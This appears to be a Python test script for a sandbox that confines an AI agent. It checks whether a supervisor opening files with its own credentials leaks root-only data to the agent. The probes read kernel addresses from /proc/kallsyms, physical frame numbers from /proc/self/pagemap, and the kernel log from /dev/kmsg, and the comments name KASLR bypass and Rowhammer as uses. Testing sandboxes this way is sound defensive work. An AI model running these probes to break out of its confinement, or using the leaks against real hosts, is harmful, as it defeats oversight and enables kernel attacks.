# A descriptor carries the credentials of whoever opened it (file->f_cred), and some
# files decide what they show by those, not by the reader's: /proc/kallsyms shows
# kernel addresses only to an opener with CAP_SYSLOG, /proc/PID/pagemap shows physical
# frame numbers only to one with CAP_SYS_ADMIN. The supervisor opens files for the
# sandbox: if it does so with its own credentials, the agent gets what only root may
# see (KASLR and physical addresses, for Rowhammer-style attacks), whatever its own
# capabilities are.
from _lib import *
import ctypes, mmap, struct
control("read our status", lambda: read("/proc/self/status"))
def kallsyms():
    with open("/proc/kallsyms") as f:
        for _, line in zip(range(50), f):
            if int(line.split()[0], 16) != 0:
                return f"kernel address shown: {line.strip()}"
    raise OSError(13, "addresses hidden (all zero)")
attack("kernel addresses in /proc/kallsyms", kallsyms)
def pagemap():
    m = mmap.mmap(-1, 4096)
    m[0:1] = b"x"
    addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
    with open("/proc/self/pagemap", "rb") as f:
        f.seek(addr // 4096 * 8)
        entry = struct.unpack("<Q", f.read(8))[0]
    pfn = entry & ((1 << 55) - 1)
    if pfn:
        return f"physical frame {pfn:#x}"
    raise OSError(13, f"frame hidden (entry {entry:#x})")
attack("physical frame numbers in /proc/self/pagemap", pagemap)
# The same for a check made at open on the opener: /dev/kmsg (the kernel log, where
# dmesg_restrict asks for CAP_SYSLOG; the syslog system call itself is refused).
def kmsg():
    if read("/proc/sys/kernel/dmesg_restrict").strip() == "0":
        raise OSError(0, "dmesg_restrict is 0: the kernel log is public here")
    fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(fd, 200)
    finally:
        os.close(fd)
attack("the kernel log through /dev/kmsg", kmsg)
